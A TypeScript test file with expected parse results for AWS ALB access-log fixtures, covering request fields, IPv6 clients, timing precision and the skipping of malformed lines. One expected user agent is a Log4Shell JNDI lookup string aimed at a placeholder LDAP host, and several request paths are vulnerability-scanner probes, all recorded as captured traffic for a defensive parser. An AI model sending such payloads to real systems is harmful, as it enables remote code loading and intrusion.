import { expect } from 'vitest';
import type { Expectations, FileExpectation } from '../support/expectation.js';
import { QUERY_SECRETS } from '../support/secrets.js';

const utc = Date.parse;
/** Every aws-alb/ corpus line is a request from an IPv4 client. */
const requests = (events: number): FileExpectation => ({
  format: 'aws-alb',
  events,
  skipped: 0,
  every: { ip: expect.stringMatching(/^[\d.]+$/) },
});

export const corpus: Expectations = {
  'aws-alb/crowdsec-hub_aws-alb-http-bad-user-agent.log': requests(4),
  // Lines 8-14 carry four extra trailing fields (conn_trace_id and the URL-rewrite fields). A WAF fixed response
  // (no target) and a Log4Shell user agent.
  'aws-alb/crowdsec-hub_aws-alb-logs.log': {
    ...requests(14),
    at: {
      4: { action: 'GET /.awscfg', status: 404, userAgent: '${jndi:ldap://${java:version}.domain/a}' },
      6: { action: 'GET /remote_agent.php', ip: '192.168.1.16' },
    },
  },
  // 63 lines, the last without a newline: absolute request URLs, the misspelled bot user agent, the client address.
  'aws-alb/opensearch-catalog_amazon_elb_raw.log': {
    ...requests(63),
    at: {
      0: {
        time: expect.closeTo(utc('2022-07-05T04:47:50.273Z') + 0.035, 3),
        ip: '20.78.123.34',
        action: 'GET //_profiler/phpinfo',
        status: 404,
        outcome: 'failure',
        userAgent: expect.stringMatching(/^Mozlila\/5\.0 .*Moblie Safari/),
      },
    },
  },
};

export const fixtures: Expectations = {
  // h2, https, wss, http; an IPv6 client; extra trailing fields; an unparsed request is skipped.
  'aws-alb/alb-s3/111122223333_elasticloadbalancing_us-east-1_app.portal-prod.50dc6c495c0c9188_20260303T0905Z_10.0.0.5_2kx9q1.log': {
    format: 'aws-alb',
    table: {
      columns: ['line', 'action', 'status'],
      rows: [
        [1, 'GET /app/dashboard', 200],
        [2, 'GET /api/projects', 200],
        [3, 'POST /v1/projects/4711/files', 201],
        [4, 'GET /v1/me', 200],
        [5, 'GET /socket', 101],
        [6, 'GET /', 301],
        [7, 'GET /app/settings', 200],
        [9, 'GET /api/export', 460],
      ],
    },
    skips: { 8: 'request line is not METHOD PATH PROTOCOL: "- https://api.example.com:443-"' },
    secrets: QUERY_SECRETS,
    at: {
      // Microseconds are kept as a fraction of a millisecond.
      0: {
        time: expect.closeTo(utc('2026-03-03T09:00:01.412Z') + 0.345, 3),
        format: 'aws-alb',
        kind: 'request',
        outcome: 'success',
        ip: '198.51.100.23',
        method: 'GET',
        path: '/app/dashboard',
        userAgent: expect.stringMatching(/Chrome\/141/),
        user: undefined,
      },
      2: { ip: '198.51.100.23', userAgent: 'python-httpx/0.28.1' },
      3: { ip: '2001:db8:4006:812::200e', userAgent: 'curl/8.7.1' },
      7: { outcome: 'failure', userAgent: undefined },
    },
  },
  'aws-alb/malformed/alb-damaged.log': {
    format: 'aws-alb',
    lines: [1, 2, 3, 8],
    skips: {
      4: 'ALB line has 13 fields, at least 14 are needed (up to "user_agent")',
      5: /^unbalanced quotes, not an ALB access log line: "https 2026-03-03T09:11:01/,
      6: /^not an ALB access log line \(type time elb client:port \.\.\. elb_status_code \.\.\. "request" "user_agent"\): "2015-05-13T23:39:43/,
      7: 'no readable time (time: "2026-13-45T99:00:00Z")',
    },
  },
};
